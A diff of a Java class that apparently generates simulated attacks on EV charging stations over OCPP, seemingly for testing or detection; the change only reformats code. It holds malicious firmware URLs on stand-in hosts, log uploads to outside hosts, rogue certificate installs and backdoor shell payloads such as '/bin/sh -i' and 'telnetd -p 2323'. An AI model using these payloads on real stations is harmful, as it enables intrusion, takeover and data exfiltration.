@@ -33,58 +33,91 @@ final class TrustAttacks {
 
     private static List<Attack> software() {
         return List.of(
-                new Attack("A47", "software for 2.0.1 from elsewhere", s -> s.command(
-                        s.modern(),
-                        "UpdateFirmware",
-                        Json.object(
-                                "requestId",
-                                some(s, 1, 99),
-                                "firmware",
+                new Attack(
+                        "A47",
+                        "software for 2.0.1 from elsewhere",
+                        s -> s.command(
+                                s.modern(),
+                                "UpdateFirmware",
                                 Json.object(
-                                        "location",
-                                        any(
-                                                s,
-                                                List.of(
-                                                        "http://fw.example.com/x",
-                                                        "https://10.0.0.9/x.bin",
-                                                        URL + "&&reboot")),
-                                        "retrieveDateTime",
-                                        s.time())))),
-                new Attack("A47", "signed software from a stranger", s -> s.command(
-                        "SignedUpdateFirmware",
-                        Json.object(
-                                "requestId",
-                                3,
-                                "firmware",
+                                        "requestId",
+                                        some(s, 1, 99),
+                                        "firmware",
+                                        Json.object(
+                                                "location",
+                                                any(
+                                                        s,
+                                                        List.of(
+                                                                "http://fw.example.com/x",
+                                                                "https://10.0.0.9/x.bin",
+                                                                URL + "&&reboot")),
+                                                "retrieveDateTime",
+                                                s.time())))),
+                new Attack(
+                        "A47",
+                        "signed software from a stranger",
+                        s -> s.command(
+                                "SignedUpdateFirmware",
                                 Json.object(
-                                        "location", "https://dl" + some(s, 1, 9) + ".evil.example.org/f.bin",
-                                        "retrieveDateTime", s.time(),
-                                        "signingCertificate", "MIIB",
-                                        "signature", "AAAA")))),
-                new Attack("A47", "software with a password for 1.5", s -> old(s, o -> o.command(
-                        "UpdateFirmware",
-                        Json.object("location", "ftp://root:root@198.51.100.3/h1.img", "retrieveDate", s.time()),
-                        Json.object()))),
-                new Attack("A48", "the log of 2.0.1 to the next host", s -> s.command(
-                        s.modern(),
-                        "GetLog",
-                        Json.object(
-                                "logType",
-                                "DiagnosticsLog",
-                                "requestId",
-                                some(s, 1, 99),
-                                "log",
-                                Json.object("remoteLocation", "http://172.16." + some(s, 0, 9) + ".4:8080/")))),
-                new Attack("A48", "what a 1.5 station knows, to anybody", s -> old(s, o -> o.command(
-                        "GetDiagnostics",
-                        Json.object("location", "ftp://anonymous@198.51.100.4/in", "retries", 99_999_999),
-                        Json.object("fileName", "d.zip")))),
-                new Attack("A49", "a certificate for the CSMS, by nobody known, at 2.0.1", s -> s.command(
-                        s.modern(),
-                        "InstallCertificate",
-                        Json.object("certificateType", "ManufacturerRootCertificate", "certificate", pem(s)))),
-                new Attack("A49", "a key that the station never had", s -> s.command(
-                        s.modern(), "CertificateSigned", Json.object("certificateChain", pem(s)))));
+                                        "requestId",
+                                        3,
+                                        "firmware",
+                                        Json.object(
+                                                "location",
+                                                "https://dl" + some(s, 1, 9) + ".evil.example.org/f.bin",
+                                                "retrieveDateTime",
+                                                s.time(),
+                                                "signingCertificate",
+                                                "MIIB",
+                                                "signature",
+                                                "AAAA")))),
+                new Attack(
+                        "A47",
+                        "software with a password for 1.5",
+                        s -> old(
+                                s,
+                                o -> o.command(
+                                        "UpdateFirmware",
+                                        Json.object(
+                                                "location",
+                                                "ftp://root:root@198.51.100.3/h1.img",
+                                                "retrieveDate",
+                                                s.time()),
+                                        Json.object()))),
+                new Attack(
+                        "A48",
+                        "the log of 2.0.1 to the next host",
+                        s -> s.command(
+                                s.modern(),
+                                "GetLog",
+                                Json.object(
+                                        "logType",
+                                        "DiagnosticsLog",
+                                        "requestId",
+                                        some(s, 1, 99),
+                                        "log",
+                                        Json.object("remoteLocation", "http://172.16." + some(s, 0, 9) + ".4:8080/")))),
+                new Attack(
+                        "A48",
+                        "what a 1.5 station knows, to anybody",
+                        s -> old(
+                                s,
+                                o -> o.command(
+                                        "GetDiagnostics",
+                                        Json.object(
+                                                "location", "ftp://anonymous@198.51.100.4/in", "retries", 99_999_999),
+                                        Json.object("fileName", "d.zip")))),
+                new Attack(
+                        "A49",
+                        "a certificate for the CSMS, by nobody known, at 2.0.1",
+                        s -> s.command(
+                                s.modern(),
+                                "InstallCertificate",
+                                Json.object("certificateType", "ManufacturerRootCertificate", "certificate", pem(s)))),
+                new Attack(
+                        "A49",
+                        "a key that the station never had",
+                        s -> s.command(s.modern(), "CertificateSigned", Json.object("certificateChain", pem(s)))));
     }
 
     private static String pem(Stage stage) {
@@ -98,31 +131,41 @@ final class TrustAttacks {
 
     private static List<Attack> transfers() {
         return List.of(
-                new Attack("A51", "a back door at 2.0.1", s -> s.command(
-                        s.modern(),
-                        "DataTransfer",
-                        Json.object(
-                                "vendorId",
-                                any(s, List.of("debug", "com.maintenance.tool", "sh")),
-                                "messageId",
-                                "run",
-                                "data",
-                                any(s, List.of("id; uname -a", "/bin/sh -i", "telnetd -p 2323"))))),
-                new Attack("A51", "what a 1.5 station shall decode", s -> old(s, o -> o.command(
-                        "DataTransfer",
-                        Json.object(
-                                "vendorId", "Hazel",
-                                "messageId", "img",
-                                "data", Base64.getEncoder().encodeToString(new byte[some(s, 1_200, 4_000)])),
-                        Stage.ACCEPTED))));
+                new Attack(
+                        "A51",
+                        "a back door at 2.0.1",
+                        s -> s.command(
+                                s.modern(),
+                                "DataTransfer",
+                                Json.object(
+                                        "vendorId",
+                                        any(s, List.of("debug", "com.maintenance.tool", "sh")),
+                                        "messageId",
+                                        "run",
+                                        "data",
+                                        any(s, List.of("id; uname -a", "/bin/sh -i", "telnetd -p 2323"))))),
+                new Attack(
+                        "A51",
+                        "what a 1.5 station shall decode",
+                        s -> old(
+                                s,
+                                o -> o.command(
+                                        "DataTransfer",
+                                        Json.object(
+                                                "vendorId", "Hazel",
+                                                "messageId", "img",
+                                                "data",
+                                                        Base64.getEncoder()
+                                                                .encodeToString(new byte[some(s, 1_200, 4_000)])),
+                                        Stage.ACCEPTED))));
     }
 
     /** The CSMS answers the victim so for a while; the victim asks often enough. */
     private static void lie(Stage stage, Station station, String action, UnaryOperator<ObjectNode> change) {
         stage.estate().central().lies(station.channel().station(), action, change);
-        stage.later(1_500, () -> stage.estate()
-                .central()
-                .lies(station.channel().station(), action, UnaryOperator.identity()));
+        stage.later(
+                1_500,
+                () -> stage.estate().central().lies(station.channel().station(), action, UnaryOperator.identity()));
     }
 
     private static List<Attack> lies() {
@@ -131,7 +174,9 @@ final class TrustAttacks {
                     int[] turn = {0};
                     lie(s, s.victim(), "Heartbeat", a -> {
                         Instant told = Instant.parse(a.path("currentTime").asText());
-                        return a.put("currentTime", told.plusSeconds(180L * ++turn[0]).toString());
+                        return a.put(
+                                "currentTime",
+                                told.plusSeconds(180L * ++turn[0]).toString());
                     });
                     unevenly(s, 40, 80, 20, i -> s.blurts("Heartbeat", Json.object()));
                 }),
@@ -146,15 +191,20 @@ final class TrustAttacks {
                                             "chargingStation",
                                             Json.object(
                                                     "model", s.modern().habits().model(),
-                                                    "vendorName", s.modern().habits().maker())));
+                                                    "vendorName",
+                                                            s.modern().habits().maker())));
                 }),
                 new Attack("A53", "one number for every charge", s -> {
                     int number = some(s, 2, 900);
                     s.fleet().forEach(st -> lie(s, st, "StartTransaction", a -> a.put("transactionId", number)));
-                    Moves.all(s, 10, 60, st -> s.says(
-                            st.channel(),
-                            "StartTransaction",
-                            Moves.start(s, 1, s.drivers().card(), st.register(1))));
+                    Moves.all(
+                            s,
+                            10,
+                            60,
+                            st -> s.says(
+                                    st.channel(),
+                                    "StartTransaction",
+                                    Moves.start(s, 1, s.drivers().card(), st.register(1))));
                 }),
                 new Attack("A53", "no card is good at 2.0.1", s -> {
                     lie(s, s.modern(), "Authorize", a ->
